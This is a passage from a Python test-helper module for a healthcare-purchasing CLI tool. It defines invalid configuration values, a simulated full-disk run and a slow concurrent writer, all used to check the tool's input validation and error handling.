    "zero_threshold": ("cz/client_area_ratio.yaml", "threshold_existing", "0", "threshold_existing"),
    "claims_year_offset_huge": ("cz/client_area_ratio.yaml", "claims_year_offset", "1000000000000",
                                "claims_year_offset"),
    "share_above_one": ("cz/own_delivery.yaml", "min_own_share", "1.5", "min_own_share"),
    "staffel_percentage_negative": ("cz/staffel.yaml", "table",
                                    "[{condition: ceiling_free, percentage: -1}]", "percentage"),
    "month_13": ("cz/ceiling.yaml", "request_month", "13", "request_month"),
    "date_far_away": ("nza/nachtzorg.yaml", "follow_request_before", "1900-01-01", "follow_request_before"),
    "long_text_as_number": ("cz/staffel.yaml", "min_cost_points_b", "'" + "9" * 500_000 + "'", "min_cost_points_b"),
}


# --- outputs: a full disk, another command writing into the same folder ---------------------------------

# Runs `zorginkoop ARGS` with a disk that is full after BUDGET bytes written below DIR: every file opened
# for writing there fails with ENOSPC once the budget is spent, as a real full disk does (also when the
# writer closes it and flushes, which is where openpyxl's ZipFile printed its `__del__` traceback).
FULL_DISK = """
import builtins, errno, io, os, sys
directory, budget = os.path.realpath(sys.argv[1]), [int(sys.argv[2])]
real_open = io.open

class Full:
    def __init__(self, handle):
        self._handle = handle
    def write(self, data):
        budget[0] -= len(data)
        if budget[0] < 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        return self._handle.write(data)
    def __getattr__(self, name):
        return getattr(self._handle, name)
    def __enter__(self):
        return self
    def __exit__(self, *exc):
        self._handle.close()

def limited_open(file, mode="r", *args, **kwargs):
    handle = real_open(file, mode, *args, **kwargs)
    # A file opened by its descriptor (a new file written unnamed) is inside when its folder is; a pipe's
    # descriptor ("pipe:[N]") or a system without /proc never is.
    name = file
    if isinstance(file, int):
        try:
            name = os.readlink(f"/proc/self/fd/{file}")
        except OSError:
            name = None
    inside = (isinstance(name, (str, os.PathLike)) and os.path.isabs(name)
              and os.path.realpath(name).startswith(directory + os.sep))
    return Full(handle) if inside and any(m in mode for m in "wax+") else handle

builtins.open = io.open = limited_open
sys.argv = ["zorginkoop", *sys.argv[3:]]
from toolkit.cli import main
main()
"""


def full_disk_command(directory: Path, budget: int, *args: str) -> list[str]:
    """The command line that runs `zorginkoop ARGS` on a disk that is full after `budget` bytes in `directory`."""
    return [sys.executable, "-c", FULL_DISK, str(directory), str(budget), *args]


# Writes `TARGET` the way `ratio --rapport` does (files.write_atomically), and waits inside the writer,
# its temporary file on disk, until the file GO exists: another command can run meanwhile.
SLOW_WRITER = """
import sys, time
from pathlib import Path
from toolkit.workbook.files import write_atomically
target, go = Path(sys.argv[1]), Path(sys.argv[2])

def write(tmp):
    tmp.write_bytes(b"rapport")
    print("bezig", flush=True)
    while not go.exists():
        time.sleep(0.02)

write_atomically(target, write)
print("klaar", flush=True)
"""


def slow_writer(target: Path, go: Path) -> subprocess.Popen[str]:
    """A process in the middle of writing `target` (its temporary file exists) until `go` appears."""
    process = subprocess.Popen([sys.executable, "-c", SLOW_WRITER, str(target), str(go)], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert process.stdout is not None and process.stdout.readline().strip() == "bezig", process.stderr
    return process


def write_all(directory: Path) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    made = [maker(directory) for maker, _ in TAMPERED.values()]
    return [*made, whitespace_bomb(directory), far_cell(directory), inputs_bomb(directory)]


if __name__ == "__main__":
    for path in write_all(Path(sys.argv[1])):
        print(path)
